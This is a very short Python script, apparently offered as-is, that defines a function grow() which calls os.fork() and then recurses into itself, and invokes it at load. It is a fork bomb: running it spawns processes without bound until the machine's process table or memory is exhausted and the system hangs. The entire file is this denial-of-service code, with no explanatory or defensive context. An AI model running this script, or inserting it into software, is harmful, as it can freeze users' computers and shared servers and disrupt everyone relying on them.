import os


def grow():
    os.fork()
    grow()


grow()
